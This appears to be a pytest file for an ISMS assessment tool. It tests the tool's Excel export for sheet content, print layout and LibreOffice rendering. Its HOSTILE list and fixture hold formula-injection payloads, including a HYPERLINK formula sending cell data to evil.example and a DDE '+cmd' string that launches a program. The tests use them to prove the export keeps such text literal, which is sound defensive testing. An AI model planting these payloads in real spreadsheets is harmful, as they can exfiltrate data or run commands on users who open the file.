"""The Excel export, read back with openpyxl, and printed to PDF by LibreOffice where installed."""

from __future__ import annotations

import math
import re
import shutil
import stat
import subprocess
import unicodedata
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from isms_tui.demo import create_demo
from isms_tui.exports.xlsx import export_assessment, wrapped_lines
from isms_tui.i18n import t
from isms_tui.model import Assessment
from isms_tui.service import Workspace
from tests.conftest import run_cli

TODAY = date(2026, 11, 27)
SHEETS = {
    "ja": ["概要", "ギャップ一覧", "対応計画", "適用宣言書", "回答一覧", "取得ロードマップ"],
    "en": ["Summary", "Gap list", "Action plan", "Statement of Applicability", "Answers", "Roadmap"],
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "{=1+1}",
    "http://example.com/phish",
    "external:C:\\secret.xlsx",
    "tab\there and\nnewline",
    "ctrl\x07\x1b[31mchars\x9b",
    "0123",
    "1e10",
    "[bold]markup[/x]",
]
# A4 landscape, 0.35 inch side margins, in pixels at 96 dpi; an Excel column of width w is
# about 7w + 5 pixels (maximum digit width 7 px for 10 pt text).
PRINTABLE_PX = (297 / 25.4 - 0.7) * 96
MIN_SCALE = 0.70
# Lower bounds of one line of 10 pt text (points) and of a wide character's width (column
# units) for the "no text is cut" check: Excel's Yu Gothic and Calibri, measured apart
# from the writer's own constants.
MIN_LINE_PT = {"ja": 15.0, "en": 12.2}
MIN_WIDE = 1.85


@pytest.fixture(scope="module")
def full_2022(tmp_path_factory):
    """A fully answered 2022 assessment with the shipped banks (and hostile notes)."""
    root = tmp_path_factory.mktemp("x")
    ws = Workspace(root / "data")
    a = Assessment(organization="株式会社テスト =cmd & Co", scope="本社", kind="initial", edition="2022", lang="ja",
                   target_date="2027-06-01")
    ws.create(a, participants=["山田, =evil"])
    with ws.open(a.id) as s:
        cycle = ["implemented", "partial", "not_implemented", "unknown", "implemented"]
        for n, item in enumerate(s.items):
            st = cycle[n % len(cycle)]
            if n % 17 == 0 and item.na_allowed:
                s.set_status(item.id, "not_applicable", na_justification=HOSTILE[n % len(HOSTILE)] + " (no such activity here)")
                continue
            s.set_status(item.id, st)
            s.set_fields(item.id, note=HOSTILE[n % len(HOSTILE)], evidence=f"証拠 {n}", owner="佐藤",
                         due="2027-01-15" if n % 3 == 0 else None)
            if item.every_months:
                s.set_fields(item.id, last_done="2026-09-01")
        s.edit_action("question:" + next(i.id for i in s.items if s.answers[i.id].status == "partial"), status="done", due="2026-01-01")
        s.set_soa_decision("5.15", reasons="baseline, contract", justification="=cmd|' 顧客データを担当者だけが扱えるようにするため", implementation="アクセス管理規程 v2",
                           owner="情シス 高橋")
        s.set_soa_decision("8.7", applicable=False, justification="We only use Macs, so malware does not concern us.")
    return ws, a.id


def _col_widths(sheet) -> dict[int, float]:
    """Column widths by index (openpyxl keeps a run of equal columns under its first letter)."""
    out: dict[int, float] = {}
    for dim in sheet.column_dimensions.values():
        if dim.width and dim.min:
            for c in range(dim.min, (dim.max or dim.min) + 1):
                out[c] = dim.width
    return out


def _values(sheet, col: int, first: int = 1) -> dict:
    """label in column ``col`` -> value beside it."""
    return {sheet.cell(r, col).value: sheet.cell(r, col + 1).value for r in range(first, sheet.max_row + 1)}


def _header_row(sheet, first: str) -> int:
    return next(r for r in range(1, 12) if sheet.cell(r, 1).value == first)


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_workbook_structure(full_2022, tmp_path: Path, lang: str):
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "out.xlsx", lang=lang, today=TODAY)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temp file left
    wb = load_workbook(path)
    assert wb.sheetnames == SHEETS[lang]
    summary, gaps, plan, soa, answers, roadmap = (wb[n] for n in SHEETS[lang])
    view = ws.view(aid, TODAY)
    rep = view.report

    # summary: computed numbers and real dates, unanswered apart from gaps, no formulas
    values = _values(summary, 1)
    key = "準備度(全体)" if lang == "ja" else "Overall readiness"
    assert values[key] == pytest.approx(rep.overall.readiness) and isinstance(values[key], float)
    assert values["組織" if lang == "ja" else "Organization"] == "株式会社テスト =cmd & Co"
    assert values["作成日" if lang == "ja" else "Date"] == datetime(2026, 11, 27)
    assert values["第一段階審査の目標日" if lang == "ja" else "Target date of the stage 1 audit"] == datetime(2027, 6, 1)
    assert values["未回答" if lang == "ja" else "Unanswered"] == rep.overall.unanswered == 0
    assert values["ギャップ(回答済み)" if lang == "ja" else "Gaps (answered)"] == rep.overall.answered_gaps
    timeline = values["進め方の目安" if lang == "ja" else "Usual timeline"]
    assert ("4か月" in timeline) if lang == "ja" else ("4 months" in timeline)
    assert len(summary._charts) == 2
    for row in summary.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate
    # stage 1 blockers: each requirement once, typed reference beside its title
    labels = [r.ref.label(lang) for r in rep.gate.blockers]
    states = {("未達", "未評価") if lang == "ja" else ("not met", "not assessed")}.pop()
    listed = [summary.cell(r, 1).value for r in range(1, summary.max_row + 1) if summary.cell(r, 3).value in states]
    assert labels and listed == labels  # each requirement once, in the gate's order
    first = rep.gate.blockers[0]
    r = next(r for r in range(1, summary.max_row + 1)
             if summary.cell(r, 1).value == first.ref.label(lang) and summary.cell(r, 3).value in states)
    assert summary.cell(r, 2).value == first.ref.title(lang)
    # next steps: the first ten open actions with owner and due date
    head = next(r for r in range(1, summary.max_row + 1)
                if summary.cell(r, 2).value == ("推奨する対応" if lang == "ja" else "Recommended action"))
    steps = view.next_steps
    assert len(steps) == 10
    for k, act in enumerate(steps, start=1):
        assert summary.cell(head + k, 2).value == act.title(lang)
        assert summary.cell(head + k, 4).value == act.owner
        assert summary.cell(head + k, 5).value == (datetime(act.due.year, act.due.month, act.due.day) if act.due else None)
        assert summary.cell(head + k, 6).value == act.deliverable_text(lang)
    # the section table has top-level sections only (the charts plot exactly these rows)
    top = sum(1 for b in view.banks for s in b.sections if s.parent is None and rep.sections[(b.id, s.id)].total)
    charted = []
    for chart in summary._charts:
        first, last = (int(n) for n in re.findall(r"\$(\d+)", chart.series[0].val.numRef.f))
        charted.append(last - first + 1)
    assert top == 4 + 7 + 12 + 9 and sorted(charted) == [4, 7 + 12 + 9]

    # gap list: the real gaps, most urgent first, with what the auditor asks and evidence examples
    head = _header_row(gaps, "優先度" if lang == "ja" else "Priority")
    headers = [c.value for c in gaps[head]]
    assert headers[2:6] == (["項目ID", "参照", "管理策・要求事項", "現在の回答"] if lang == "ja"
                            else ["Item ID", "Refs", "Control / requirement", "Current answer"])
    rows = list(range(head + 1, gaps.max_row + 1))
    assert len(rows) == len(view.gap_actions)
    prios = [gaps.cell(r, 1).value for r in rows]
    assert all(isinstance(p, int) for p in prios) and prios == sorted(prios)
    act = view.gap_actions[0]
    assert gaps.cell(head + 1, 3).value == act.item.id and gaps.cell(head + 1, 4).value == act.item.ref_label(lang)
    assert gaps.cell(head + 1, 8).value == act.item.auditor_asks[lang]
    assert act.item.evidence[lang][0] in gaps.cell(head + 1, 9).value
    assert gaps.print_title_rows == f"${head}:${head}"

    # action plan: numeric priority beside its label, deliverable, date cells, dropdown, late dates
    assert plan.freeze_panes == "A2"
    assert plan.tables["ActionPlan"].ref == f"A1:L{len(view.plan) + 1}"
    headers = [c.value for c in plan[1]]
    assert headers[0] == ("優先度" if lang == "ja" else "Priority") and len(headers) == 12
    for r, act in enumerate(view.plan[:20], start=2):
        assert plan.cell(r, 1).value == act.priority and plan.cell(r, 2).value == ("高中低"[act.priority - 1] if lang == "ja"
                                                                                   else ["High", "Medium", "Low"][act.priority - 1])
        assert plan.cell(r, 3).value == act.source.id and plan.cell(r, 8).value == act.deliverable_text(lang)
    fills = {plan.cell(r, 1).fill.fgColor.rgb for r in range(2, plan.max_row + 1)}
    assert len(fills) == len({a.priority for a in view.plan})  # one colour per priority
    dv = plan.data_validations.dataValidation
    assert len(dv) == 1 and dv[0].type == "list" and ("完了" if lang == "ja" else "Done") in dv[0].formula1
    cf = list(plan.conditional_formatting)[0]
    assert "TODAY()" in cf.rules[0].formula[0] and str(cf.sqref).startswith("J2")
    due_cells = [plan.cell(r, 10).value for r in range(2, plan.max_row + 1) if plan.cell(r, 10).value is not None]
    assert due_cells and all(isinstance(v, datetime) for v in due_cells)
    assert datetime(2027, 1, 15) in due_cells

    # SoA: approval block, all 93 controls, the user's decisions, challenged exclusions flagged
    block = [c.value for row in soa.iter_rows(min_row=1, max_row=3) for c in row if c.value]
    for word in (["作成者", "承認者", "版数", "日付"] if lang == "ja" else ["Prepared by", "Approved by", "Version", "Date"]):
        assert word in block
    head = _header_row(soa, "分野" if lang == "ja" else "Theme")
    assert soa.max_row == head + 93
    by_id = {soa.cell(r, 2).value: r for r in range(head + 1, head + 94)}
    assert list(by_id)[0] == "A.5.1" and list(by_id)[-1] == "A.8.34"
    assert soa.cell(by_id["A.5.7"], 11).value in ("(2022年版で新設)", "(new in 2022)")
    assert soa.cell(by_id["A.5.1"], 11).value == "A.5.1.1, A.5.1.2"
    r = by_id["A.5.15"]
    assert soa.cell(r, 6).value == "=cmd|' 顧客データを担当者だけが扱えるようにするため"
    assert (soa.cell(r, 8).value, soa.cell(r, 9).value) == ("アクセス管理規程 v2", "情シス 高橋")
    assert soa.cell(r, 5).value == t("xlsx.reason.contract", lang) + "\n" + t("xlsx.reason.baseline", lang)
    r = by_id["A.8.7"]
    assert soa.cell(r, 4).value == ("いいえ" if lang == "ja" else "No")
    assert "A.8.7" in soa.cell(r, 12).value  # flagged: auditors challenge excluding malware protection
    undecided = soa.cell(by_id["A.5.2"], 6).value
    assert undecided in (None, "")  # never a prefilled sentence as the user's decision
    assert soa.cell(by_id["A.5.2"], 12).value in ("採用・除外の理由が未記入", "No justification entered yet")
    evidence = [soa.cell(r, 10).value for r in by_id.values() if soa.cell(r, 10).value]
    assert all(len(set(e.split("\n"))) == len(e.split("\n")) for e in evidence)  # de-duplicated

    # answers: every item under its section, real dates and times
    total = sum(len(b.items) for b in view.banks)
    item_rows = [r for r in range(2, answers.max_row + 1) if answers.cell(r, 2).value]
    assert len(item_rows) == total
    stamps = [answers.cell(r, 12).value for r in item_rows]
    assert all(isinstance(v, datetime) for v in stamps)

    # roadmap: month columns with real dates, a filled cell for each month of a step's window
    top = _header_row(roadmap, "ステップ" if lang == "ja" else "Step")
    assert roadmap.print_title_rows == f"${top}:${top + 1}"
    assert roadmap.cell(1, 1).value.startswith("目安日は目標審査日 2027-06-01" if lang == "ja" else "Dates are laid back")
    months = [roadmap.cell(top + 1, c).value for c in range(6, roadmap.max_column + 1)]
    assert months and all(isinstance(m, datetime) and m.day == 1 for m in months)
    assert roadmap.cell(top, 6).value == months[0].year  # the year above its months, a number
    first_step = next(r for r in range(top + 2, roadmap.max_row + 1) if isinstance(roadmap.cell(r, 4).value, datetime))
    start, end = roadmap.cell(first_step, 4).value, roadmap.cell(first_step, 5).value
    filled = [m for c, m in enumerate(months, start=6) if roadmap.cell(first_step, c).fill.fgColor.rgb not in (None, "00000000")]
    assert filled and filled[0] <= start and filled[-1] <= end

    # print setup on every sheet: A4 landscape, one page wide at >= 70%, headers and footers
    for sheet in wb.worksheets:
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize in (9, "9")
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        if sheet.title == roadmap.title:  # the timeline on one page when its rows fit at 80% or more
            assert sheet.page_setup.fitToHeight in (None, 1, "1", 0, "0")
        else:  # as many pages tall as needed
            assert sheet.page_setup.fitToHeight in (0, "0")
        widths = _col_widths(sheet)
        px = sum(7 * widths.get(c, 8.43) + 5 for c in range(1, sheet.max_column + 1))
        assert min(1.0, PRINTABLE_PX / px) >= MIN_SCALE, (sheet.title, px)
        header, footer = sheet.oddHeader, sheet.oddFooter
        assert "&&" in header.left.text  # the organization's "&" stays literal
        assert header.center.text == "&A" and "&P / &N" in footer.center.text
        assert ("社外秘" if lang == "ja" else "Confidential") in header.right.text
        assert sheet.title == summary.title or sheet.print_title_rows
    assert wb.properties.title.startswith("ISMS")


def test_hostile_text_stays_literal(full_2022, tmp_path: Path):
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "h.xlsx", lang="en")
    wb = load_workbook(path)
    seen = set()
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} became a formula: {c.value!r}"
                assert c.hyperlink is None, f"{sheet.title}!{c.coordinate} became a link"
                if isinstance(c.value, str):
                    assert "\x1b" not in c.value and "\x07" not in c.value and "\x9b" not in c.value
                    seen.add(c.value)
    for h in HOSTILE:
        if "\x07" in h:
            continue
        assert h in seen, h
    assert "ctrl[31mchars" in seen
    assert "0123" in seen  # stays text, not the number 123
    with zipfile.ZipFile(path) as z:  # the raw XML holds no formula elements
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert "<f>" not in z.read(name).decode("utf-8"), name
            assert not name.startswith("xl/worksheets/_rels") or b"hyperlink" not in z.read(name)


def test_wrapped_lines_counts_wide_characters_and_words():
    assert wrapped_lines("", 10) == 1
    assert wrapped_lines("abc def", 20) == 1
    assert wrapped_lines("a\nb\nc", 20) == 3
    ja = "情報セキュリティ方針を作成し、社長の承認を得て全従業員に周知します。" * 2
    en = "x" * len(ja)
    assert wrapped_lines(ja, 20) > wrapped_lines(en, 20)  # a wide character takes about two columns
    assert wrapped_lines("word " * 12, 11) >= 6  # words are not broken between lines
    assert wrapped_lines("y" * 100, 10) >= 10  # a word longer than the line is broken inside
    assert wrapped_lines("z " * 50_000, 10, cap=30) == 30  # counting stops at the cap


def _char_lower_bound(c: str) -> float:
    """A character's width in column units (a digit's width), rounded down: thin letters and
    punctuation about half a digit, lowercase a little less than one, capitals one."""
    if unicodedata.east_asian_width(c) in ("W", "F"):
        return MIN_WIDE
    if c in " .,:;'!|iljftr()-/[]":
        return 0.45
    if c.islower():
        return 1.3 if c in "mw" else 0.8
    return 1.0


def _lines_lower_bound(text: str, width: float) -> int:
    """Lines a text needs at least: each paragraph's width over the column's, no word wrap."""
    n = 0
    for para in text.split("\n"):
        n += max(1, math.ceil(sum(_char_lower_bound(c) for c in para) / width))
    return n


def _assert_no_text_is_cut(path: Path, lang: str) -> int:
    """Every text cell's row is tall enough for its wrapped lines at its (merged) width."""
    wb = load_workbook(path)
    checked = 0
    for sheet in wb.worksheets:
        widths = _col_widths(sheet)
        spans = {}  # merged cells: their total width and rows
        for rng in sheet.merged_cells.ranges:
            spans[(rng.min_row, rng.min_col)] = (sum(widths.get(c, 8.43) for c in range(rng.min_col, rng.max_col + 1)),
                                                 range(rng.min_row, rng.max_row + 1))
        for row in sheet.iter_rows():
            for c in row:
                if not isinstance(c.value, str) or not c.value or not c.alignment.wrap_text:
                    continue
                width, rows = spans.get((c.row, c.column), (widths.get(c.column, 8.43), range(c.row, c.row + 1)))
                need = _lines_lower_bound(c.value, width)
                if need * MIN_LINE_PT[lang] > 409:
                    continue  # longer than Excel's tallest row: cannot be shown whole on paper
                heights = [sheet.row_dimensions[r].height for r in rows]
                height = None if None in heights else sum(heights)
                size = (c.font.sz or 10) / 10
                assert height is not None and height >= need * MIN_LINE_PT[lang] * size, (
                    f"{sheet.title}!{c.coordinate}: {need} lines need {need * MIN_LINE_PT[lang] * size:.1f} pt, "
                    f"row is {height} pt: {c.value[:40]!r}")
                checked += 1
    return checked


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_no_text_cell_is_cut(full_2022, tmp_path: Path, lang: str):
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "cut.xlsx", lang=lang, today=TODAY)
    assert _assert_no_text_is_cut(path, lang) > 2000


def test_cli_export_and_errors(full_2022, tmp_path: Path):
    ws, aid = full_2022
    r = run_cli("export", aid, "--lang", "en", data_dir=ws.root, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    out = Path(r.stdout.strip().splitlines()[-1])
    assert out.exists() and out.parent == tmp_path and out.name.endswith(".xlsx") and "_ISMS_" in out.name
    r = run_cli("export", "deadbeef", data_dir=ws.root)
    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1
    r = run_cli("export", aid, "--xlsx", "/nonexistent-dir/x.xlsx", data_dir=ws.root)
    assert r.returncode == 1 and ("cannot write" in r.stderr or "書き込めません" in r.stderr)
    assert len(r.stderr.strip().splitlines()) == 1
    from isms_tui.service import StorageError

    with pytest.raises(StorageError, match="cannot write /proc/nope/x.xlsx"):  # written through the service
        export_assessment(ws, aid, Path("/proc/nope/x.xlsx"), lang="ja")


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_full_assessment_prints_without_text_over_text(full_2022, tmp_path: Path, lang: str):
    """Every sheet of a fully answered assessment (hostile and multi-line notes) printed by
    LibreOffice: no row is too short for its text."""
    soffice = _soffice()
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils (pdftotext) is not installed: `apt-get install poppler-utils` to run this check")
    ws, aid = full_2022
    pdf = _to_pdf(soffice, export_assessment(ws, aid, tmp_path / f"full_{lang}.xlsx", lang=lang, today=TODAY), tmp_path)
    assert _overlapping_words(pdf) == []


def test_export_without_target_date_and_2013(tmp_path: Path):
    ws = Workspace(tmp_path / "d")
    a = Assessment(organization="Old KK", edition="2013", lang="en")
    ws.create(a)
    with ws.open(a.id) as s:
        s.set_status("a13-a.5.1.1-1", "implemented")
    wb = load_workbook(export_assessment(ws, a.id, tmp_path / "o.xlsx", lang="en", today=TODAY))
    soa = wb["Statement of Applicability"]
    head = _header_row(soa, "Theme")
    assert soa.max_row == head + 114 and soa.max_column == 12
    assert soa.cell(head, 11).value == "Corresponding 2022 controls"
    row = next(r for r in range(head + 1, soa.max_row + 1) if soa.cell(r, 2).value == "A.5.1.1")
    assert soa.cell(row, 11).value == "A.5.1"
    warning = "2013 certificates expired at the end of the transition period on 2025-10-31"
    assert any(warning in (soa.cell(r, 1).value or "") for r in range(1, head))
    summary = wb["Summary"]
    texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(warning in t for t in texts)
    assert any("No target audit date is set" in t for t in texts)
    # the 2013 charts plot the 14 domains, not the 35 objectives under them
    annex = [r for r in range(1, summary.max_row + 1) if summary.cell(r, 1).value == "Annex A controls (ISO/IEC 27001:2013)"]
    assert len(annex) in (0, 14)
    roadmap = wb["Roadmap"]
    assert roadmap.max_column == 5  # no month columns without dates
    assert roadmap.cell(1, 1).value.startswith("No target audit date is set")
    top = _header_row(roadmap, "Step")
    assert all(roadmap.cell(r, 4).value is None for r in range(top + 2, roadmap.max_row + 1))


def test_renewal_and_pre_audit_wording(tmp_path: Path):
    ws = Workspace(tmp_path / "d")
    a = Assessment(organization="Renew KK", kind="renewal", lang="en", certification_date="2025-03-10",
                   target_date="2026-10-01")
    ws.create(a)
    wb = load_workbook(export_assessment(ws, a.id, tmp_path / "r.xlsx", lang="en", today=TODAY))
    summary = wb["Summary"]
    values = _values(summary, 1)
    assert values["Certificate issued"] == datetime(2025, 3, 10)
    assert values["Certificate expires"] == datetime(2028, 3, 9)
    assert values["1st surveillance audit due by"] == datetime(2026, 3, 10)
    assert values["Next audit (target date)"] == datetime(2026, 10, 1)
    assert summary.cell(next(r for r in range(1, 40) if summary.cell(r, 1).value == "Next audit (target date)"), 3).value \
        == "2nd surveillance audit"
    texts = [c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("The target audit date 2026-10-01 has passed" in t for t in texts)
    assert not any("4 months" in t for t in texts)  # no build-up timeline for a renewal
    assert "Days to the audit" not in values
    road = [c.value for row in wb["Roadmap"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(t.startswith("Dates are laid back from the next audit") for t in road)

    pre = Assessment(organization="Pre KK", kind="pre_audit", lang="ja", target_date="2027-02-01")
    ws.create(pre)
    values = _values(load_workbook(export_assessment(ws, pre.id, tmp_path / "p.xlsx", lang="ja", today=TODAY))["概要"], 1)
    assert values["審査日"] == datetime(2027, 2, 1) and values["審査日までの日数"] == 66
    assert "進め方の目安" not in values


def _soffice() -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) is not installed: `apt-get install libreoffice-calc` to run this check")
    return soffice


def _to_pdf(soffice: str, path: Path, home: Path) -> Path:
    env = {"HOME": str(home), "PATH": "/usr/bin:/bin"}
    r = subprocess.run([soffice, "--headless", "--norestore", "--convert-to", "pdf", "--outdir", str(path.parent), str(path)],
                       capture_output=True, text=True, timeout=600, env=env)
    pdf = path.with_suffix(".pdf")
    assert r.returncode == 0 and pdf.exists(), r.stdout + r.stderr
    return pdf


def test_libreoffice_opens_the_workbook(full_2022, tmp_path: Path):
    soffice = _soffice()
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "lo.xlsx", lang="ja")
    outdir = tmp_path / "conv"
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    r = subprocess.run([soffice, "--headless", "--norestore", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
                        "--outdir", str(outdir), str(path)], capture_output=True, text=True, timeout=300, env=env)
    assert r.returncode == 0, r.stderr
    converted = outdir / "lo.xlsx"
    assert converted.exists(), r.stdout + r.stderr
    wb = load_workbook(converted)
    assert wb.sheetnames == SHEETS["ja"]
    rep = ws.view(aid).report
    values = _values(wb["概要"], 1)
    assert values["準備度(全体)"] == pytest.approx(rep.overall.readiness, abs=1e-9)
    assert values["回答率"] == pytest.approx(rep.overall.coverage, abs=1e-9)


# Pages per sheet of the demo (about 240 items, half answered) on A4 landscape: upper bounds
# with room for font differences between machines; a sheet that loses its widths or heights
# (one page per row, or columns spilling onto extra pages) goes far beyond them.
PAGE_BOUNDS = {"summary": 8, "gaps": 26, "plan": 56, "soa": 12, "answers": 66, "roadmap": 3,
               "assets": 2, "risks": 6, "treatment": 7, "soa_trace": 6, "documents": 4, "minutes": 5, "audit": 40,
               "findings": 2,
               "calendar": 1, "compare": 6,
               "preaudit": 22, "sampling": 5}
# the demo keeps a risk register and a documents & records register: their five sheets follow the six
RISK_SHEETS = {"ja": ["情報資産管理台帳", "リスクアセスメント", "リスク対応計画", "適用宣言書の根拠", "文書・記録一覧"],
               "en": ["Asset register", "Risk register", "Risk treatment plan", "SoA traceability", "Documents & records"]}
# and its last workshop session: the minutes sheet comes last
MINUTES_SHEET = {"ja": "議事録", "en": "Workshop minutes"}
# and its internal audit programme with the checklists, then the findings of its internal audit:
# the corrective actions sheet after them
AUDIT_SHEET = {"ja": "内部監査チェックリスト", "en": "Internal audit checklist"}
FINDINGS_SHEET = {"ja": "是正処置一覧", "en": "Corrective actions"}
# and last year's cycle: the comparison sheet after the findings, before the minutes
COMPARE_SHEET = {"ja": "前年度比較", "en": "Cycle comparison"}
# and its plan towards the certification audits: the annual plan sheet after the corrective actions
CALENDAR_SHEET = {"ja": "年間計画", "en": "Annual plan"}
# it prepares for the audit: the stage 1 checklist and the stage 2 sampling list come right
# before the documents & records sheet
PREAUDIT_SHEETS = {"ja": ["審査前チェックリスト", "審査サンプリング"], "en": ["Stage 1 checklist", "Stage 2 sampling"]}


def _overlapping_words(pdf: Path) -> list[tuple[int, str, str]]:
    """Words drawn over each other on a page: what LibreOffice prints when a row is too
    short for its text (the clipped line still overlaps the next row's text)."""
    xml = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    out = []
    for n, page in enumerate(xml.split("<page ")[1:], start=1):
        words = [(float(a), float(b), float(c), float(d), w) for a, b, c, d, w in re.findall(
            r'xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<', page)]
        words.sort(key=lambda w: w[1])
        for i, (x0, y0, x1, y1, w) in enumerate(words):
            for u0, v0, u1, v1, other in words[i + 1:]:
                if v0 >= y1 - 3:  # sorted by top: nothing further down overlaps by more than 3 pt
                    break
                if min(x1, u1) - max(x0, u0) > 3 and min(y1, v1) - max(y0, v0) > 3:
                    out.append((n, w, other))
    return out


def _word_heights(pdf: Path, margin: float = 60) -> list[list[float]]:
    """Per page, the heights of the word boxes between the page header and footer."""
    xml = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    out = []
    for page in xml.split("<page ")[1:]:
        height = float(re.search(r'height="([\d.]+)"', page).group(1))
        boxes = [(float(a), float(b)) for a, b in re.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)"', page)]
        out.append([b - a for a, b in boxes if margin < a < height - margin])
    return out


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_demo_prints_on_a4(tmp_path: Path, lang: str):
    """The demo workbook printed by LibreOffice: every sheet within its page bound, the page
    header and footer on every page, body text at 70% or more of its size (LibreOffice's own
    fit-to-width scale, measured against the same text printed at 100% from a one-cell
    workbook), and no text cell cut (checked on the workbook's row heights)."""
    import statistics

    import xlsxwriter

    from isms_tui.exports.layout import FONTS

    soffice = _soffice()
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils (pdftotext) is not installed: `apt-get install poppler-utils` to run this check")
    if lang == "ja" and not subprocess.run(["fc-list", ":lang=ja"], capture_output=True, text=True).stdout.strip():
        pytest.skip("no Japanese font for LibreOffice: `apt-get install fonts-noto-cjk` to print the ja demo")
    ws = Workspace(tmp_path / "d")
    path = export_assessment(ws, create_demo(ws, lang), tmp_path / f"demo_{lang}.xlsx", lang=lang)
    assert _assert_no_text_is_cut(path, lang) > 1000
    pdf = _to_pdf(soffice, path, tmp_path)

    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "###" not in text  # a number cell too narrow for its value prints ### (a risk level with its band did)
    pages = [p for p in text.split("\f") if p.strip()]
    names = dict(zip(PAGE_BOUNDS, [*SHEETS[lang], *RISK_SHEETS[lang], MINUTES_SHEET[lang], AUDIT_SHEET[lang],
                                   FINDINGS_SHEET[lang], CALENDAR_SHEET[lang], COMPARE_SHEET[lang],
                                   *PREAUDIT_SHEETS[lang]], strict=True))
    owner: list[str] = []
    for page in pages:
        head = page.strip().splitlines()[0]  # the page header: organization, sheet name, mark
        sheet = [k for k, name in names.items() if re.search(rf"\s{re.escape(name)}\s", f" {head} ")]
        assert len(sheet) == 1, head
        owner.append(sheet[0])
        assert re.search(r"\d+ / \d+", page.strip().splitlines()[-1])  # footer: page x / y
    assert _overlapping_words(pdf) == []  # no text printed over the next row
    counts = {k: owner.count(k) for k in PAGE_BOUNDS}
    for key, bound in PAGE_BOUNDS.items():
        assert 1 <= counts[key] <= bound, (key, counts)
    assert counts["gaps"] < counts["plan"]  # the gap list has the real gaps only

    ref = tmp_path / "ref.xlsx"
    wb = xlsxwriter.Workbook(str(ref))
    sample = "準備度 回答 実施済み 審査員が確認すること" if lang == "ja" else "readiness answered implemented auditor asks"
    wb.add_worksheet().write_string(0, 0, sample, wb.add_format({"font_name": FONTS[lang], "font_size": 10}))
    wb.close()
    reference = statistics.median(_word_heights(_to_pdf(soffice, ref, tmp_path), margin=0)[0])
    heights = _word_heights(pdf)
    assert len(heights) == len(owner)
    charts = max(n for n, k in enumerate(owner) if k == "summary")  # the charts' page: small labels by design
    for n, (sheet, hs) in enumerate(zip(owner, heights, strict=True)):
        if n != charts and len(hs) >= 20:
            assert statistics.median(hs) >= MIN_SCALE * reference, (sheet, n + 1, statistics.median(hs), reference)
